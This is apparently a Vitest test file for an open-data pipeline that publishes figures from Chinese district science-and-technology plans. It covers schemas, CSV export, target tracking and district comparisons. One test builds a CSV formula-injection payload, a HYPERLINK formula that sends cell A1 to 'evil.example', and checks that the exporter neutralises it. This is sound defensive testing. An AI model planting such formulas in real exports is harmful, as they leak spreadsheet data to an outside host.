import { Ajv2020 } from 'ajv/dist/2020.js';
import { describe, expect, it } from 'vitest';
import { comparison, discrepancies } from '../../src/lib/data/analysis.ts';
import { tracker } from '../../src/lib/data/tracker.ts';
import { toCsv } from '../../src/lib/data/csv.ts';
import { figureText } from '../../src/lib/data/display.ts';
import { figureData, observationData, type PageData } from '../../src/lib/data/records.ts';
import { figureColumns, figureSchema, observationColumns, observationSchema } from '../../src/lib/data/schemas.ts';
import { ingest } from '../../src/lib/ingest.ts';
import { readIngestInput } from '../../src/lib/io/project.ts';
import { frontmatterOf } from '../../src/lib/mdx/page.ts';
import { formatPeriod } from '../../src/lib/site/dates.ts';
import { parseCsv } from '../support/csv.ts';
import { ROOT } from '../support/sources.ts';

const input = readIngestInput(ROOT);
const out = ingest(input);
const pages: PageData[] = out.pages.map((page) =>
  frontmatterOf(page, [], out.figures.get(page.slug), out.observations.get(page.slug)),
);
const figures = figureData(pages);
const observations = observationData(pages, input.indicators);

describe('open data', () => {
  it('validates against its JSON Schemas', () => {
    const ajv = new Ajv2020({ allErrors: true });
    expect(ajv.validate(figureSchema, figures), ajv.errorsText()).toBe(true);
    expect(ajv.validate(observationSchema, observations), ajv.errorsText()).toBe(true);
    // The schemas are strict: a stray field is an error.
    expect(ajv.validate(figureSchema, [{ ...figures[0], extra: 1 }])).toBe(false);
  });

  it("publishes schemas generated from the records' zod schemas: named, strict, every field required and described", () => {
    for (const [schema, columns, id] of [
      [figureSchema, figureColumns, 'figures.schema.json'],
      [observationSchema, observationColumns, 'indicators.schema.json'],
    ] as const) {
      expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
      expect(schema.$id).toBe(id);
      expect(schema.title.length).toBeGreaterThan(0);
      expect(schema.items.additionalProperties).toBe(false);
      expect(schema.items.required).toEqual(Object.keys(schema.items.properties));
      expect(Object.keys(schema.items.properties)).toEqual(columns);
      for (const [name, property] of Object.entries(schema.items.properties))
        expect(property.description, name).toMatch(/\S/);
    }
    expect(figureSchema.items.properties.high!.type).toEqual(['number', 'null']);
    const ajv = new Ajv2020();
    expect(ajv.validate(observationSchema, [{ ...observations[0], kind: 'guess' }])).toBe(false);
  });

  it('has every figure of every page, and observations that point to real figures in their paragraph', () => {
    expect(figures.length).toBe([...out.figures.values()].flat().length);
    const byId = new Map(figures.map((f) => [f.id, f]));
    expect(observations.length).toBeGreaterThan(50);
    for (const o of observations) {
      const figure = byId.get(o.figure);
      expect(figure, o.figure).toBeDefined();
      expect(figure!.page).toBe(o.page);
      expect(figure!.sentence).toContain(figure!.raw);
      expect(figure!.value).toBe(o.value);
    }
  });

  it('adds a 表1 baseline and target for every table row an indicator names', () => {
    const table = observations.filter((o) => o.page.includes('#table1-'));
    expect(table.filter((o) => o.kind === 'baseline')).toHaveLength(14);
    expect(table.filter((o) => o.kind === 'target')).toHaveLength(14);
    expect(table.find((o) => o.indicator === 'high-tech-enterprises' && o.kind === 'target')).toMatchObject({
      value: 200,
      period: '2025',
      raw: '200',
    });
  });

  it('writes CSV with a BOM, CRLF and RFC 4180 quoting, and reads back the same values', () => {
    const csv = toCsv(figures, figureColumns);
    expect(csv.startsWith('\ufeffid,source,page,')).toBe(true);
    expect(csv).toContain('\r\n');
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual([...figureColumns]);
    expect(rows).toHaveLength(figures.length);
    const sentence = figureColumns.indexOf('sentence');
    rows.forEach((row, i) => expect(row[sentence]).toBe(figures[i]!.sentence));
    expect(parseCsv(toCsv([{ a: 'x,"y"\nz', b: ['累计', '新增'] }], ['a', 'b']))).toEqual([
      ['a', 'b'],
      ['x,"y"\nz', '累计;新增'],
    ]);
    expect(parseCsv(toCsv(observations, observationColumns))).toHaveLength(observations.length + 1);
  });

  it('writes text cells that a spreadsheet would run as a formula as text, and keeps numbers numbers', () => {
    const real = figures.find((f) => f.sentence.includes('高新技术企业'));
    if (!real) throw new Error('no figure about 高新技术企业');
    const hostile = {
      ...real,
      sentence: '=HYPERLINK("http://evil.example/?q="&A1,"点击查看原文")',
      label: '+高新技术企业',
      raw: '-3.5%',
      unit: '@SUM(A1:A9)',
      period: '\t2021',
      source: '\r2021',
      value: -3.5,
    };
    const [header, row] = parseCsv(toCsv([hostile], figureColumns));
    if (!header || !row) throw new Error('no rows');
    const cell = (column: (typeof figureColumns)[number]) => row[header.indexOf(column)];
    expect(cell('sentence')).toBe(`'${hostile.sentence}`);
    expect(cell('label')).toBe("'+高新技术企业");
    expect(cell('raw')).toBe("'-3.5%");
    expect(cell('unit')).toBe("'@SUM(A1:A9)");
    expect(cell('period')).toBe("'\t2021");
    expect(cell('source')).toBe("'\r2021");
    // A number field is a number, negative or not; a text that merely contains = or - is left alone.
    expect(cell('value')).toBe('-3.5');
    expect(cell('id')).toBe(real.id);
    expect(parseCsv(toCsv([{ a: 'a=b-c', n: -0.25, m: 12 }], ['a', 'n', 'm']))[1]).toEqual(['a=b-c', '-0.25', '12']);
  });
});

describe('analysis', () => {
  it('tracks 高新技术企业数 while the plan was in force: 98 in 2020, 123 in 2021, target 200, on a straight line', () => {
    const rows = tracker(observations, '綦江', 'qijiang-14th-five-year-st-plan', { state: 'in-force' });
    expect(rows).toHaveLength(14);
    const row = rows.find((r) => r.indicator === 'high-tech-enterprises')!;
    expect([row.baseline?.value, row.target?.value, row.latest?.value, row.latest?.period]).toEqual([
      98,
      200,
      123,
      '2021',
    ]);
    expect(row.progress).toBeCloseTo((123 - 98) / (200 - 98));
    // The line from 98 (2020) to 200 (2025) stands at 98 + 102 × 1/5 = 118.4 in 2021: 123 is beyond it.
    expect(row.verdict).toBe('on-track');
    // 全社会研发经费占地区生产总值的比重: 2.3% in 2020, target 3%; the text gives 2.3% again for 2021 (line: 2.44).
    expect(rows.find((r) => r.indicator === 'rd-intensity')!.verdict).toBe('behind');
    expect(rows.find((r) => r.indicator === 'scientific-literacy')!.unjudged).toEqual({ why: 'no-later-value' });
  });

  it('compares districts, flagging other periods and other definitions', () => {
    const rows = comparison(observations, ['大足', '綦江', '黔江']);
    const hte = rows.get('high-tech-enterprises')!;
    expect(hte.get('大足')!.observation.value).toBe(194);
    expect(hte.get('綦江')!.observation.value).toBe(123);
    expect(hte.get('綦江')!.flags).toContain('period');
    // A value measured differently is never shown as if comparable.
    expect(rows.get('rd-institutions')!.get('大足')!.flags).toContain('definition');
    // Preferred: the standard measure (19.82亿元 in 2022) over a later, differently measured one.
    expect(rows.get('rd-expenditure')!.get('大足')!.observation.value).toBe(19.82);
  });

  it('finds the same indicator, district and year reported with different values', () => {
    const found = discrepancies(observations);
    const hte = found.find(
      (d) => d.indicator === 'high-tech-enterprises' && d.district === '綦江' && d.period === '2021',
    );
    expect(hte?.observations.map((o) => o.raw).sort()).toEqual(['100家', '123家']);
    expect(found.every((d) => new Set(d.observations.map((o) => o.value_in_indicator_unit)).size > 1)).toBe(true);
  });
});

describe('display', () => {
  it('shows a figure with its bound and unit', () => {
    expect(figureText('100家', '家', ['超过'])).toBe('超过100家');
    expect(figureText('＞10', '%', ['目标', '超过'])).toBe('＞10%');
    expect(figureText('98', '家', [])).toBe('98家');
    expect(figureText('3.5亿元', '亿元', ['累计'])).toBe('3.5亿元');
  });

  it('formats periods for readers', () => {
    expect(formatPeriod('2023-01/2023-09', 'zh')).toBe('2023年1—9月');
    expect(formatPeriod('2023-01/2023-09', 'en')).toBe('Jan–Sep 2023');
    expect(formatPeriod('2021/2025', 'zh')).toBe('2021—2025年');
    expect(formatPeriod('2023-10-25', 'zh')).toBe('2023年10月25日');
  });
});
